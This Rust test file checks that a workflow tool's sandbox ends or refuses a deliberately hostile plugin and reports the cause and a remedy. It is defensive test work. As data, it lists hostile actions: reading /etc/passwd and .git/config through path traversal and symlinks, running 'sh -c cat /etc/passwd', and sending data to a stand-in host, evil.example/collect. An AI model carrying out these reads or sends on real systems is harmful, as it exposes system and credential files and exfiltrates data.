//! Plugins that misbehave: each is ended or refused, and a person is told who, what, and what would help.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test may panic")]

mod support;

use std::{fmt::Write as _, os::unix::fs::symlink, path::Path, process::Command};

use adw_test_guests::HOSTILE;
use futures_util::future::join_all;
use reqwest::Method;
use serde_json::{Value, json};
use support::{
    api::Api,
    repository::{Repository, without_settings},
    server::{ADW, Server},
};

/// What a stage is called, what it is told to do, and what its table says beyond that.
type Stage = (&'static str, &'static str, &'static str);

/// What the plugin's imports ask for, granted as narrowly as it goes.
const GRANTS: &str = r#"
workspace = "write"
exec = [["ln", "-s", "*", "planted"]]
agent = ["patch"]
http = [{ host = "https://api.example.com", methods = ["GET"] }]
"#;

const ENDED: [Stage; 9] = [
    ("loops", r#"does = "loop""#, r#"limits = { cpu = "20ms" }"#),
    ("allocates", r#"does = "allocate""#, r#"limits = { memory = "64MiB" }"#),
    ("recurses", r#"does = "recurse""#, ""),
    ("panics", r#"does = "panic""#, ""),
    ("returns-100-mb", r#"does = "return-much", times = 100_000_000"#, r#"limits = { memory = "1GiB" }"#),
    ("returns-deep", r#"does = "return-deep", times = 120"#, ""),
    ("sleeps", r#"does = "sleep""#, r#"timeout = "1s""#),
    ("asks-100-000-times", r#"does = "ask-the-time", times = 100_000"#, ""),
    // One more than there may be: it is found out only as the last of them are written, at the end.
    ("asks-40-001-times", r#"does = "ask-the-time", times = 40_001"#, ""),
];

const REFUSED: [Stage; 16] = [
    ("fills-state", r#"does = "fill-state", times = 1_000"#, ""),
    ("fills-artifacts", r#"does = "fill-artifacts", times = 2_000"#, ""),
    ("reads-above", r#"does = "read", with = ["../../etc/passwd"]"#, ""),
    ("reads-absolutely", r#"does = "read", with = ["/etc/passwd"]"#, ""),
    ("reads-git", r#"does = "read", with = [".git/config"]"#, ""),
    ("reads-by-symlink", r#"does = "read", with = ["link"]"#, ""),
    ("reads-by-folder", r#"does = "read", with = ["outside/secret"]"#, ""),
    (
        "plants-a-symlink",
        r#"does = "run-then-read", with = ["ln", "-s", "/etc/passwd", "planted", "planted"]"#,
        "",
    ),
    ("globs-above", r#"does = "glob", with = ["../**"]"#, ""),
    ("writes-above", r#"does = "write", with = ["../taken"]"#, ""),
    ("writes-by-symlink", r#"does = "write", with = ["outside/taken"]"#, ""),
    ("writes-over-symlink", r#"does = "write", with = ["link"]"#, ""),
    ("runs", r#"does = "run", with = ["sh", "-c", "cat /etc/passwd"]"#, ""),
    ("runs-nearly", r#"does = "run", with = ["ln", "-s", "/etc/passwd", "planted", "elsewhere"]"#, ""),
    ("asks-another", r#"does = "ask", with = ["claude"]"#, ""),
    ("sends-elsewhere", r#"does = "send", with = ["https://evil.example/collect"]"#, ""),
];

#[tokio::test]
async fn each_is_ended_or_refused_and_named_with_cause_and_remedy() {
    let repository = Repository::of(&[("README.md", "# Home\n")]);
    let outside = plant_symlinks(&repository);
    let stages: Vec<Stage> = ENDED.into_iter().chain(REFUSED).collect();
    configure(&repository, &stages, GRANTS);
    let server = Server::start(&repository).await;
    let told = join_all(stages.iter().map(|(name, ..)| failure(&server.api, name))).await;
    let mut page = String::new();
    for message in told {
        assert!(message.contains("plugin hostile 0.1.0"), "it isn't named: {message}");
        writeln!(page, "{message}\n").unwrap();
    }
    insta::assert_snapshot!(page);
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1, "something was left outside");
    assert_eq!(std::fs::read_to_string(outside.join("secret")).unwrap(), "a secret\n");
}

/// Symlinks that lead out, committed as a colleague might have. What they lead to stays as it is.
fn plant_symlinks(repository: &Repository) -> std::path::PathBuf {
    let outside = repository.beside("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("secret"), "a secret\n").unwrap();
    symlink(outside.join("secret"), repository.path().join("link")).unwrap();
    symlink(&outside, repository.path().join("outside")).unwrap();
    repository.git(&["add", "-A"]);
    repository.git(&["-c", "user.name=P", "-c", "user.email=p@example.org", "commit", "-qm", "links"]);
    outside
}

/// What a person is told of the one stage of a workflow.
async fn failure(api: &Api, stage: &str) -> String {
    let adw_id = api.create(&json!({ "title": stage, "stages": [stage] })).await;
    let workflow = api.ends_as(&adw_id, "failed").await;
    workflow["error_message"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn an_answer_over_a_limit_fails_its_stage_alone_and_goes_through_once_it_fits() {
    let over = "x".repeat((16 << 20) + 1);
    let repository = Repository::of(&[("large", &over)]);
    let stages = |memory| -> [Stage; 2] {
        [
            ("keeps", r#"does = "fill-artifacts", times = 3"#, ""),
            ("skims", r#"does = "skim", with = ["large"]"#, memory),
        ]
    };
    configure(&repository, &stages(r#"limits = { memory = "8MiB" }"#), GRANTS);
    let server = Server::start(&repository).await;
    let api = &server.api;
    let adw_id = api.create(&json!({ "title": "Skim", "stages": ["keeps", "skims"] })).await;
    let fails = async |said: &str| {
        let failed = api.ends_as(&adw_id, "failed").await;
        let message = failed["error_message"].as_str().unwrap();
        assert!(message.contains("plugin hostile 0.1.0") && message.contains(said), "{message}");
        // What was achieved is kept, and others go on.
        assert_eq!(api.of(&adw_id, "/artifacts/artifact-2").await.text, "x");
        let other = api.create(&json!({ "title": "Another one", "stages": ["keeps"] })).await;
        api.ends_as(&other, "completed").await;
    };
    fails("`large` is larger than the 16777216 bytes that are read at once; no setting raises that: make it smaller")
        .await;

    // A person makes it smaller, as they were told; by then it is more than the plugin has memory for, which is a setting.
    let tree = repository.path().join(".adw/trees").join(&adw_id);
    std::fs::write(tree.join("large"), &over[..12 << 20]).unwrap();
    api.retry(&adw_id).await.with(202);
    fails("used its 8 MiB; stages.skims.limits.memory raises it").await;

    configure(&repository, &stages(""), GRANTS);
    api.try_ask(Method::POST, "/api/v1/configuration/reload", None).await.unwrap().with(200);
    api.retry(&adw_id).await.with(202);
    let completed = api.ends_as(&adw_id, "completed").await;
    let runs = &completed["stage_runs"];
    assert_eq!(runs[1]["output"], json!(12 << 20), "{completed:#}");
    assert_eq!(runs[0]["attempt"], json!(1), "what is done isn't done again");
}

#[tokio::test]
async fn a_million_lines_are_cut_with_a_mark() {
    let repository = Repository::of(&[]);
    configure(&repository, &[("logs", r#"does = "log", times = 1_000_000"#, "")], GRANTS);
    let server = Server::start(&repository).await;
    let adw_id = server.api.create(&json!({ "title": "Log", "stages": ["logs"] })).await;
    server.api.ends_as(&adw_id, "completed").await;
    let file = repository.path().join(format!(".adw/logs/{adw_id}/logs.1.ndjson"));
    let log = std::fs::read_to_string(file).unwrap();
    assert!(log.len() < 4 << 20, "{} bytes of log", log.len());
    let last: Value = serde_json::from_str(log.lines().last().unwrap()).unwrap();
    insta::assert_snapshot!(last["message"].as_str().unwrap(), @"[plugin hostile 0.1.0 has logged its 1 MiB; the rest of this attempt is left out: log less, or keep what is long as an artifact]");
}

#[test]
fn a_grant_that_is_missing_is_named_with_the_line_to_add() {
    for (missing, line) in [
        ("workspace", "workspace = \"write\""),
        ("exec", "exec = []"),
        ("agent", "agent = [\"*\"]"),
        ("http", "http = []"),
    ] {
        let repository = Repository::of(&[]);
        let granted: String = GRANTS
            .lines()
            .filter(|line| !line.starts_with(missing))
            .fold(String::new(), |all, line| all + line + "\n");
        configure(&repository, &[("stage", r#"does = "nothing""#, "")], &granted);
        let said = check(&repository.path());
        let expected = "plugin hostile 0.1.0 uses";
        assert!(said.contains(expected) && said.contains(missing), "{missing}: {said}");
        assert!(said.contains("[stages.stage.grants]") && said.contains(line), "{missing}: {said}");
        let others = ["exec = []", "agent = [\"*\"]", "http = []"].into_iter().filter(|other| *other != line);
        for other in others {
            assert!(!said.contains(other), "{missing} alone is missing: {said}");
        }
    }
}

#[test]
fn what_needs_no_grant_loads_without_one() {
    let repository = Repository::of(&[]);
    repository.write(
        "adw.toml",
        "[stages.rest]\nplugin = \"builtin:noop\"\n[pipelines.default]\nstages = [\"rest\"]\n",
    );
    check_passes(&repository.path());
}

/// An adw.toml with these stages, all of the one plugin.
fn configure(repository: &Repository, stages: &[Stage], grants: &str) {
    std::fs::write(repository.beside("hostile.wasm"), HOSTILE).unwrap();
    let mut adw_toml = String::new();
    for (name, config, beyond) in stages {
        write!(
            adw_toml,
            "[stages.{name}]\npath = \"../hostile.wasm\"\nconfig = {{ {config} }}\n{beyond}\n[stages.{name}.grants]{grants}"
        )
        .unwrap();
    }
    writeln!(adw_toml, "[pipelines.default]\nstages = [\"{}\"]", stages[0].0).unwrap();
    repository.write("adw.toml", &adw_toml);
}

fn check(folder: &Path) -> String {
    let output = without_settings(Command::new(ADW).arg("check").current_dir(folder)).output().unwrap();
    assert!(!output.status.success(), "`adw check` had nothing to say");
    String::from_utf8(output.stderr).unwrap()
}

fn check_passes(folder: &Path) {
    let output = without_settings(Command::new(ADW).arg("check").current_dir(folder)).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
}
